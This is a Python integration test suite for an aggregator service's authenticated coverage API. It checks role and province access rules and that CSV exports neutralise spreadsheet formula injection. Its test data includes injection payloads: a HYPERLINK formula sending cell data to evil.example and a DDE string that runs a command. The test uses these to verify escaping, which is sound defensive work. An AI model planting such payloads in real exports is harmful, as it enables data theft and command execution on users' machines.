"""Aggregator over HTTP with auth on: operators read figures, within their province if bound."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import httpx
import pytest
from fastapi import FastAPI
from redis.asyncio import Redis

from services.aggregator.bootstrap import create_app
from shared.contracts.events import UnitRegistered, entry_fields
from shared.contracts.events.registry import UnitState
from shared.contracts.streams import REGISTRY_EVENTS, stream_key
from shared.runtime.settings import Settings
from tests.integration.security.conftest import Keys
from tests.waiting import wait_until

pytestmark = pytest.mark.integration

LEGACY = {"edition": "legacy"}


@pytest.fixture
async def aggregator(secured: Settings, redis: Redis) -> AsyncIterator[FastAPI]:
    """The aggregator with auth on, knowing provinces 15 and 20 and a district of 15."""
    units = [
        (
            ("15",),
            UnitState(
                code="15", name="Tỉnh Yên Bái", level="province", kind="tỉnh", parent_code=None
            ),
        ),
        (
            ("20",),
            UnitState(
                code="20", name="Tỉnh Lạng Sơn", level="province", kind="tỉnh", parent_code=None
            ),
        ),
        (
            ("15", "136"),
            UnitState(
                code="136", name="Huyện Văn Yên", level="district", kind="huyện", parent_code="15"
            ),
        ),
    ]
    key = stream_key(REGISTRY_EVENTS, secured.stream_namespace)
    for path, state in units:
        event = UnitRegistered.new(edition="legacy", unit_path=path, payload=state)
        await redis.xadd(key, entry_fields(event))  # type: ignore[arg-type]
    app = create_app(secured)
    async with app.router.lifespan_context(app):
        yield app


@pytest.fixture
async def client(aggregator: FastAPI, keys: Keys) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=aggregator)
    async with httpx.AsyncClient(transport=transport, base_url="http://aggregator") as http:

        async def loaded() -> bool:
            response = await http.get("/v1/coverage/136", params=LEGACY, headers=keys.admin.headers)
            return response.status_code == 200

        await wait_until(loaded, message="units in the aggregator")
        yield http


async def test_figures_need_an_operator_or_admin_key(client: httpx.AsyncClient, keys: Keys) -> None:
    assert (await client.get("/v1/coverage", params=LEGACY)).status_code == 401
    for key in (keys.operator, keys.admin):
        assert (
            await client.get("/v1/coverage", params=LEGACY, headers=key.headers)
        ).status_code == 200
        csv = await client.get("/v1/coverage.csv", params=LEGACY, headers=key.headers)
        assert csv.status_code == 200
    publisher = await client.get(
        "/v1/coverage/15", params=LEGACY, headers=keys.publisher_15.headers
    )
    assert publisher.status_code == 403
    assert publisher.json()["error"]["code"] == "role_not_allowed"


async def test_an_operator_of_one_province_reads_only_that_province(
    client: httpx.AsyncClient, keys: Keys
) -> None:
    headers = keys.operator_15.headers
    for path in ("/v1/coverage/15", "/v1/coverage/15/children", "/v1/coverage/136"):
        assert (await client.get(path, params=LEGACY, headers=headers)).status_code == 200, path
    own_csv = await client.get(
        "/v1/coverage.csv", params=LEGACY | {"parent": "15"}, headers=headers
    )
    assert own_csv.status_code == 200
    assert "Huyện Văn Yên" in own_csv.text

    for path, params in (
        ("/v1/coverage/20", LEGACY),
        ("/v1/coverage/20/children", LEGACY),
        ("/v1/coverage.csv", LEGACY | {"parent": "20"}),
        ("/v1/coverage/15", {"edition": "2025"}),  # code 15 of the other edition: not its own
    ):
        refused = await client.get(path, params=params, headers=headers)
        # As for a code that exists nowhere: probing codes tells nothing (#18).
        assert refused.status_code == 404, (path, refused.text)
        assert refused.json()["error"]["code"] == "unit_not_found"
        assert "Lạng Sơn" not in refused.text

    national = await client.get("/v1/coverage", params=LEGACY, headers=headers)
    assert national.status_code == 403
    error = national.json()["error"]
    assert (error["code"], error["province"], error["edition"]) == ("outside_scope", "15", "legacy")
    assert "/v1/coverage/15?edition=legacy" in error["message"]
    provinces_csv = await client.get("/v1/coverage.csv", params=LEGACY, headers=headers)
    assert provinces_csv.status_code == 403


FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\tTab first",
    "\rReturn first",
)


async def test_names_that_look_like_formulas_reach_the_csv_as_text(
    keys: Keys, redis: Redis, secured: Settings
) -> None:
    """Item 1 of #18: a unit name is never a spreadsheet formula in /v1/coverage.csv."""
    key = stream_key(REGISTRY_EVENTS, secured.stream_namespace)
    province = UnitState(code="15", name="=1+1", level="province", kind="tỉnh", parent_code=None)
    events = [UnitRegistered.new(edition="legacy", unit_path=("15",), payload=province)]
    codes = [f"{900 + i}" for i in range(len(FORMULAS))]
    for code, name in zip(codes, FORMULAS, strict=True):
        state = UnitState(code=code, name=name, level="district", kind="huyện", parent_code="15")
        events.append(UnitRegistered.new(edition="legacy", unit_path=("15", code), payload=state))
    for event in events:
        await redis.xadd(key, entry_fields(event))  # type: ignore[arg-type]
    app = create_app(secured)
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://aggregator"
        ) as client,
    ):

        async def table(parent: str | None) -> list[dict[str, str]] | None:
            response = await client.get(
                "/v1/coverage.csv",
                params=LEGACY | ({} if parent is None else {"parent": parent}),
                headers=keys.admin.headers,
            )
            rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
            return rows if len(rows) == (1 if parent is None else len(FORMULAS)) else None

        districts = await wait_until(lambda: table("15"), message="the districts in the CSV")
        provinces = await wait_until(lambda: table(None), message="the province in the CSV")
    names = {row["code"]: row["name"] for row in districts}
    assert [names[code] for code in codes] == ["'" + name for name in FORMULAS]
    assert provinces[0]["name"] == "'=1+1"
    # Every cell, not just names: none starts a formula.
    cells = [cell for row in districts + provinces for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
